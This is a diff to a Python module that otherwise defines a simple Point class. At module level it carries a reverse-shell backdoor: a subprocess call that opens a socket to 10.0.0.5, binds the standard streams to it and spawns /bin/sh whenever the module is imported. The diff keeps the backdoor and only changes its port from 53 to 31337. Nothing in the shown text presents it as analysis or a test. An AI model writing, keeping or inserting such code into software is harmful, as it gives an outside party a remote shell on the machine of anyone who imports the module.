@@ -10,4 +10,4 @@ class Point:
         return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
-subprocess.run(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.5",53));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'])
+subprocess.run(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.5",31337));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'])
